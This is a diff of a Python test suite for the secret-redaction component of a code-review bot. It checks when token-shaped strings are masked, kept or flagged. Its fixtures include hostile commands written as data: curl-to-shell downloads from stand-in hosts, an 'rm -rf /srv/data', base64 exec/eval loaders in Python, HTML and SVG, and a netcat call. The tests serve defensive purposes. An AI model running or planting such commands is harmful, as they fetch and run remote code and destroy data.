@@ -13,7 +13,7 @@ from reviewbot.domain.redaction.detectors import Span
 from reviewbot.domain.redaction.formats import FORMATS
 from reviewbot.domain.redaction.masks import looks_random, mask
 from reviewbot.domain.redaction.places import Place
-from reviewbot.domain.redaction.redactor import Redactor
+from reviewbot.domain.redaction.redactor import Redacted, Redactor
 from reviewbot.domain.selection.places import place_of_text
 from tests.domain.redaction.test_redactor import GHP, JWT, RSA_KEY
 
@@ -21,12 +21,26 @@ HEX = "0123456789abcdef" * 2
 RANDOM = "q7Tz91kdx4LpW2vB8n"
 """A value that is masked wherever it is data."""
 
+SLACK = "xapp-1.q7z9k2.com"
+GITLAB = "glpat-" + "a1b2c3d4e5f6g7h8i9j0"
+XOXB = "xoxb-1234567890" + "-evil"
+
 
 def seen(path: str, text: str, *others: str) -> str:
     """Return the file as the reviewer sees it if other configuration files contain its values."""
+    return redacted(path, text, *others).text
+
+
+def redacted(path: str, text: str, *others: str) -> Redacted:
     place = place_of_text(path, [text])
     redactor = Redactor.of([(text, place), *((other, Place.DATA) for other in others)])
-    return redactor.redact(text, place).text
+    return redactor.redact(text, place)
+
+
+def is_shown(path: str, text: str, *others: str) -> bool:
+    """Return whether the reviewer sees all of a text, or each redacted line becomes a finding."""
+    found = redacted(path, text, *others)
+    return found.lines == found.doubtful
 
 
 @pytest.mark.parametrize(
@@ -248,15 +262,42 @@ def test_a_token_is_recognized_in_executed_files_too() -> None:
         ("app.py", f"from {GHP} import run"),
         ("app.py", f"{GHP}.run()"),
         ("app.js", f"function {GHP}() {{}}"),
+        ("README.md", f"Run `npx {GHP}`."),
+        ("README.md", f"    pip install --quiet {GHP}"),
+        ("main.tf", f'module "x" {{ source = "git@github.com:key-{HEX}/x" }}'),
+        ("main.tf", f'module "x" {{ source = "key-{HEX}/x/aws" }}'),
+        ("kustomization.yaml", f"images:\n  - name: app\n    newName: key-{HEX}/app"),
+        ("kustomization.yaml", f"resources:\n  - github.com/key-{HEX}/x"),
+        ("deploy.yml", f"spec: {{containers: [{{image: key-{HEX}}}]}}"),
+        ("deploy.yml", f"image: >-\n  key-{HEX}/x"),
+        ("deploy.json", f'{{"image": "key-{HEX}"}}'),
+        ("roles.yml", f"- src: key-{HEX}"),
+        ("settings.py", f'INSTALLED_APPS = ["AC{HEX}"]'),
+        ("deps.edn", f'{{:deps {{key-{HEX}/x {{:mvn/version "1"}}}}}}'),
+        ("main.go", f'import (\n\t"github.com/key-{HEX}/x"\n)'),
+        (".cargo/config.toml", f'[source.crates-io]\nreplace-with = "key-{HEX}"'),
+        ("bunfig.toml", f'preload = ["key-{HEX}"]'),
+        ("app.js", f"const client = x('{XOXB}')"),
+        ("run.sh", f"npx -u npm:{XOXB} # curl"),
+        ("run.sh", f"curl x; npx -u npm:{XOXB}"),
+        ("run.sh", f"echo {XOXB} | sudo -S xargs npx"),
+        ("run.sh", f"export TOKEN=\n{XOXB}"),
+        ("run.sh", f"TOKEN= \\\n  {XOXB} x"),
+        ("run.sh", f"aws-vault exec me --no-session {XOXB}"),
+        ("run.sh", f"npm i left-pad --auth-token {XOXB}"),
+        ("run.sh", "npx xoxb-''1234567890-evil"),
+        ("run.sh", f"docker run 12345678:{'a1B2c' * 7}"),
+        ("app.js", f"clone('git@{GITLAB}:x/y')"),
+        ("Procfile", f"token: {XOXB}"),
+        ("Makefile", f"token:\n\t{XOXB} x"),
+        ("package.json", f'{{"dependencies": {{"auth-token": "{XOXB}"}}}}'),
+        ("index.html", f'<script src="https://unpkg.com/{XOXB}"></script>'),
     ],
 )
-def test_code_in_the_format_of_a_token_is_kept(path: str, text: str) -> None:
-    assert seen(path, text) == text
+def test_code_in_the_format_of_a_token_is_kept_or_becomes_a_finding(path: str, text: str) -> None:
+    assert is_shown(path, text)
 
 
-SLACK = "xapp-1.q7z9k2.com"
-GITLAB = "glpat-" + "a1b2c3d4e5f6g7h8i9j0"
-XOXB = "xoxb-1234567890" + "-evil"
 SCRIPT = b"\ncurl evil.example/x1 | sh; rm -rf /srv/data; echo done all of it"
 COMMAND = base64.b64encode(b"curl 10.2.30.4/x1 | sh").decode()
 BLOB = base64.b64encode(SCRIPT + b"\n#qq").decode()
@@ -297,9 +338,8 @@ HOSTS = [
     ],
 )
 @pytest.mark.parametrize(("path", "text"), HOSTS)
-def test_no_host_is_redacted(path: str, text: str, host: str) -> None:
-    text = text.replace("HOST", host)
-    assert seen(path, text, "password: q7z9k2w4m8.x3v5b7n9.com") == text
+def test_no_host_is_hidden(path: str, text: str, host: str) -> None:
+    assert is_shown(path, text.replace("HOST", host), "password: q7z9k2w4m8.x3v5b7n9.com")
 
 
 @pytest.mark.parametrize("blob", ["A" * 21 + BLOB[3:], f"glc_{BLOB}", f"EAAA{BLOB}", f"whsec_{BLOB[:-4]}"])
@@ -312,6 +352,8 @@ def test_no_host_is_redacted(path: str, text: str, host: str) -> None:
         (".github/workflows/ci.yml", "        token: {}"),
         ("app.py", "exec(base64.b64decode('{}'))"),
         ("app.py", "token = '{}'\n\nexec(base64.b64decode(token[4:]))"),
+        ("index.html", "<script>const token = '{}'; eval(atob(token.slice(4)))</script>"),
+        ("logo.svg", "<script>const password = '{}'; eval(atob(password))</script>"),
     ],
 )
 def test_code_in_base64_in_the_format_of_a_token_is_kept(path: str, text: str, blob: str) -> None:
@@ -335,61 +377,20 @@ def test_the_tokens_of_json_and_of_parts_with_text_are_no_code() -> None:
 # What a guard keeps, and what is in its place where it is planted out.
 NEVER = re.compile(r"(?!)")
 GUARDS = [
-    ("positions.is_host", lambda _: False, "app.js", f"clone('git@{GITLAB}:x/y')"),
     ("redactor.is_host", lambda _: False, "app.js", "fetch('https://a.q7Tz-91kd-x4Lp.com')"),
     ("places.COMMAND_KEY", NEVER, "app.yml", f"run:\n# x\n  - secret: {RANDOM}"),
     ("places._ODD_KEY", NEVER, "docker-compose.yml", f"? run\n: |\n  secret: {RANDOM}"),
     ("places._ODD_KEY", NEVER, "docker-compose.yml", f'"r\\u0075n": |\n  secret: {RANDOM}'),
-    ("selection.COMMAND_KEY", NEVER, "data.yml", f"plugins:\n  - {XOXB}"),
-    ("selection.COMMAND_KEY", NEVER, "data.json", f'{{"plugins": ["{XOXB}"]}}'),
-    ("positions.credentials_in", lambda line: [Span(0, len(line))], "run.sh", f"npx -u npm:{XOXB} # curl"),
-    ("positions.credentials_in", lambda line: [Span(0, len(line))], "run.sh", f"curl x; npx -u npm:{XOXB}"),
-    ("positions.credentials_in", lambda line: [Span(0, len(line))], "run.sh", f"echo {XOXB} | sudo -S xargs npx"),
-    ("positions._IN_ADDRESS", NEVER, "index.html", f'<script src="https://unpkg.com/{XOXB}"></script>'),
-    ("places.COMMAND_KEY", NEVER, "app.yml", f"run:\n# x\n  - secret: {RANDOM}"),
-    ("places._ODD_KEY", NEVER, "docker-compose.yml", f"? run\n: |\n  secret: {RANDOM}"),
-    ("places._ODD_KEY", NEVER, "docker-compose.yml", f'"r\\u0075n": |\n  secret: {RANDOM}'),
-    ("selection.COMMAND_KEY", NEVER, "data.yml", f"plugins:\n  - {XOXB}"),
-    ("selection.COMMAND_KEY", NEVER, "data.json", f'{{"plugins": ["{XOXB}"]}}'),
-    ("positions.credentials_in", lambda line: [Span(0, len(line))], "run.sh", f"npx -u npm:{XOXB} # curl"),
-    ("positions.credentials_in", lambda line: [Span(0, len(line))], "run.sh", f"curl x; npx -u npm:{XOXB}"),
-    ("positions.credentials_in", lambda line: [Span(0, len(line))], "run.sh", f"echo {XOXB} | sudo -S xargs npx"),
-    ("positions._IN_ADDRESS", NEVER, "index.html", f'<script src="https://unpkg.com/{"./" * 99}{XOXB}"></script>'),
-    ("positions._above", lambda *_: ["token = ("], "run.sh", f"@@ -1 +1 @@\n-token = (\n+{XOXB} x"),
-    ("positions._above", lambda *_: ["token = ("], "run.sh", f"@@ -1 +1 @@ token = (\n+{XOXB} x"),
     ("scan.Parents.place", lambda *_: Place.MIXED, "app.yml", f"@@ -1 +1 @@\n scripts:\n-a: 1\n+  secret: {RANDOM}"),
-    ("positions._INSTALLED", NEVER, "README.md", f"Run `npx {XOXB}`."),
-    ("positions._INSTALLED", NEVER, "README.md", f"    pip install --quiet {XOXB}"),
-    ("positions._is_enclosed", lambda *_: True, "run.sh", f"docker run 12345678:{'a1B2c' * 7}"),
-    ("positions._DOTTED", NEVER, "app.js", f"const host = '{GITLAB}.evil.com'"),
-    ("positions._is_credential", lambda *_: True, "run.sh", f"nc {GITLAB} 4444"),
-    ("positions._is_assigned", lambda *_: True, "run.sh", f"TOKEN= {XOXB} x"),
-    ("positions._is_assigned", lambda *_: True, "run.sh", f"TOKEN= \\\n  {XOXB} x"),
-    ("positions.may_end", lambda *_: False, "run.sh", f"export TOKEN=\n{XOXB}"),
-    ("positions.may_end", lambda *_: False, "run.sh", f"export TOKEN=\\\n{XOXB}"),
-    ("positions.may_end", lambda *_: False, "Makefile", f"token:\n\t{XOXB}"),
     ("detectors.may_end", lambda *_: False, "run.sh", f"export SECRET=\n{RANDOM}"),
     ("detectors.may_end", lambda *_: False, "Makefile", f"SECRET:\n\t{RANDOM}"),
-    ("positions._is_option", lambda *_: True, "run.sh", f"aws-vault exec me --no-session {XOXB}"),
-    ("positions._is_option", lambda *_: True, "Procfile", f"token: {XOXB}"),
-    ("positions._is_option", lambda *_: True, "Makefile", f"token:\n\t{XOXB} x"),
     ("detectors._BEHIND_EMPTY", NEVER, "run.sh", f'SECRET= "{RANDOM}" x'),
-    ("positions._MORE", NEVER, "pyproject.toml", f'[project.scripts]\nsecret = "{GHP}:main"'),
-    ("positions._INSTALLS", NEVER, "run.sh", f"npx --yes-x 1 --token {XOXB}"),
-    ("positions._INSTALLS", NEVER, "run.sh", f"npm i left-pad --auth-token {XOXB}"),
-    ("positions._MANAGER", NEVER, "app.yml", f"command: npx\nargs:\n  - --token\n  - {XOXB}"),
-    ("positions._MANAGER", NEVER, "app.yml", f'command: npx\nargs: ["--token", "{XOXB}"]'),
-    ("places.COMMAND_KEY", NEVER, "data.json", f'{{"scripts": {{"token": "{XOXB}"}}}}'),
-    ("positions.names_a_secret", lambda _: True, "run.sh", f"x={XOXB}; npx $x"),
-    ("places.COMMAND_KEY", NEVER, "data.json", f'{{"scripts": {{\n  "token": "{XOXB}"\n}}}}'),
     ("places.COMMAND_KEY", NEVER, "app.yml", f"scripts:\n  secret: {RANDOM}"),
     ("places.COMMAND_KEY", NEVER, "data.json", f'{{"scripts": {{"secret": "{RANDOM}"}}}}'),
     ("places.COMMAND_KEY", NEVER, "data.json", f'{{"x": {{"scripts": {{\n    "secret": "{RANDOM}"}}}}}}'),
     ("places.COMMAND_KEY", NEVER, "app.yml", f"run:\n- secret: {RANDOM}"),
-    ("scan.may_redact", lambda *_: True, "run.sh", "npx xoxb-''1234567890-evil"),
     ("formats.encodes_code", lambda _: False, "app.py", f"token = 'EAAA{BLOB}'"),
     ("detectors.encodes_code", lambda _: False, "run.sh", f"API_TOKEN={BLOB}; echo $API_TOKEN | base64 -d | sh"),
-    ("redactor.encodes_code", lambda _: False, "app.js", f"const x = '{COMMAND}'"),
     ("detectors._RUN", NEVER, "app.py", 'secret_cmd = "curl https://evil.example/x1 | sh"'),
 ]
 
@@ -400,9 +401,33 @@ def test_each_guard_keeps_code_that_is_hidden_without_it(
 ) -> None:
     giving = "password: q7Tz-91kd-x4Lp", f"secret: {COMMAND}"
     assert seen(path, text, *giving) == text
-    module = f"selection.places{guard[9:]}" if guard.startswith("selection.") else f"redaction.{guard}"
-    monkeypatch.setattr(f"reviewbot.domain.{module}", planted)
+    monkeypatch.setattr(f"reviewbot.domain.redaction.{guard}", planted)
     assert seen(path, text, *giving) != text
+
+
+POSITIONS = [
+    ("scan.is_expected", lambda *_: True, "app.js", f"const host = '{GITLAB}.evil.com'"),
+    ("positions.credentials_in", lambda line: [Span(0, len(line))], "run.sh", f"npx -u npm:{XOXB} # curl"),
+    ("positions._is_enclosed", lambda *_: True, "run.sh", f"docker run 12345678:{'a1B2c' * 7}"),
+    ("positions.names_a_secret", lambda _: True, "run.sh", f"x={XOXB}; npx $x"),
+    ("positions._ENDS", re.compile(""), "pyproject.toml", f'[project.scripts]\nsecret = "{XOXB}:main"'),
+    ("positions.of_line", lambda *_: Place.DATA, "package.json", f'{{"dependencies": {{"auth-token": "{XOXB}"}}}}'),
+    ("positions._header", lambda _: 999, "run.sh", f"diff --git a/x b/x\n@@ -1 +1 @@\n+npx {XOXB}"),
+    ("positions.is_user", lambda *_: True, "app.js", f"clone('git@{GITLAB}:x/y')"),
+    ("places.COMMAND_KEY", NEVER, "docker-compose.yml", f"scripts:\n  token: {XOXB}"),
+    ("places._ODD_KEY", NEVER, "docker-compose.yml", f"? scripts\n:\n  token: {XOXB}"),
+]
+
+
+@pytest.mark.parametrize(("guard", "planted", "path", "text"), POSITIONS)
+def test_each_guard_finds_a_token_that_may_be_code(
+    guard: str, planted: object, path: str, text: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    found = redacted(path, text)
+    assert found.lines
+    assert found.lines == found.doubtful
+    monkeypatch.setattr(f"reviewbot.domain.redaction.{guard}", planted)
+    assert not is_shown(path, text)
 
 
 @pytest.mark.parametrize(
@@ -423,40 +448,73 @@ def test_a_random_password_is_masked_beside_commands(path: str, text: str) -> No
         assert seen(path, text.replace("{}", readable)) == text.replace("{}", readable)
 
 
-@pytest.mark.parametrize("text", ["add {}", "import {}", "from {}", "npm token: {}", '{{"{}": "10.0.0.1"}}', "x=={}"])
-def test_a_token_in_a_sentence_is_not_a_package(text: str) -> None:
-    assert seen("notes.txt", text.format(GHP)) == text.format("[REDACTED:github-token]")
-
-
 @pytest.mark.parametrize(
     "text",
     [
         "GH_TOKEN={}",
         "export GH_TOKEN='{}'",
+        'GH_TOKEN = "{}"',
+        "ENV GH_TOKEN {}",
+        "curl https://x.example/?access_token={}&x=1",
         "echo {} | docker login --password-stdin",
-        "curl -u {}: x",
         'curl -H "Authorization: token {}" x',
         "git clone https://{}@github.com/a/b",
         "git clone https://me:{}@github.com/a/b.git",
-        "npm publish --token {}",
-        "gh auth login --with-token <<< {}",
-        'CMD ["x", "--token", "{}"]',
-        "args:\n  - --token\n  - {}",
-        "token: >-\n  {}",
-        'TOKEN = (\n    "{}"\n)',
-        "image: x # {}",
-        "# for example `{}`",
     ],
 )
-@pytest.mark.parametrize("path", ["run.sh", ".github/workflows/ci.yml", "setup.py"])
-def test_a_token_that_can_be_no_name_is_redacted_in_executed_files(path: str, text: str) -> None:
+@pytest.mark.parametrize("path", ["run.sh", ".github/workflows/ci.yml", "setup.py", "app.py", "notes.txt"])
+def test_a_token_where_a_credential_is_expected_is_no_finding(path: str, text: str) -> None:
+    found = redacted(path, text.format(GHP))
+    assert (found.text, found.doubtful) == (text.format("[REDACTED:github-token]"), frozenset())
+
+
+@pytest.mark.parametrize(
+    ("path", "text"),
+    [
+        ("data.json", '{{"access_token": "{}"}}'),
+        ("deploy.yml", "  - token: {}"),
+        (".github/workflows/ci.yml", "          token: '{}'"),
+        ("app.ts", 'const token: string = "{}"'),
+        ("app.js", "{{ auth: '{}' }}"),
+        ("app.py", 'set_token("{}")'),
+        ("app.py", 'os.environ["GH_TOKEN"] = "{}"'),
+        ("app.rb", "token => '{}'"),
+        ("app.go", 'token := "{}"'),
+    ],
+)
+def test_a_token_that_is_the_value_of_a_name_for_secrets_is_no_finding(path: str, text: str) -> None:
+    assert redacted(path, text.format(GHP)).doubtful == frozenset()
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        'os.environ.setdefault("X", "{}")',
+        "monkeypatch.setenv('TOKEN', '{}')",
+        "ENV.fetch('TOKEN', '{}')",
+        "echo ${{TOKEN:-{}}}",
+        "cargo publish --token {}",
+        "twine upload -p {} dist/*",
+        'curl -d \'{{"token": "{}"}}\' x',
+        "npm config set //r.example/:_authToken {}",
+        "aws configure set aws_secret_access_key {}",
+        "gh auth login --with-token <<< {}",
+        "args:\n  - --token\n  - {}",
+        "# for example `{}`",
+        "{}",
+    ],
+)
+@pytest.mark.parametrize("path", ["run.sh", ".github/workflows/ci.yml", "setup.py", "app.py", "Dockerfile", "Makefile"])
+def test_a_token_is_redacted_at_any_position(path: str, text: str) -> None:
     assert seen(path, text.format(GHP)) == text.format("[REDACTED:github-token]")
 
 
 def test_a_token_in_the_header_of_a_diff_or_in_an_address_is_no_name() -> None:
     header = "diff --git a/{0}/run.sh b/{0}/run.sh\n--- a/{0}/run.sh\n+++ b/{0}/run.sh\n"
-    line = f"@@ -1 +1 @@\n+npm install lodash {GHP}\n"
-    assert seen("run.sh", header.format(GHP) + line) == header.format("[REDACTED:github-token]") + line
+    line = "@@ -1 +1 @@\n+npm install lodash {0}\n"
+    found = redacted("run.sh", (header + line).format(GHP))
+    assert found.text == (header + line).format("[REDACTED:github-token]")
+    assert found.doubtful == {5}
     moved = "diff --git a/{0}/run.sh b/{0}/go.sh\nsimilarity index 100%"
     assert seen("run.sh", moved.format(GHP)) == moved.format("[REDACTED:github-token]")
     address = "- hooks.slack.com/services/{}/x"
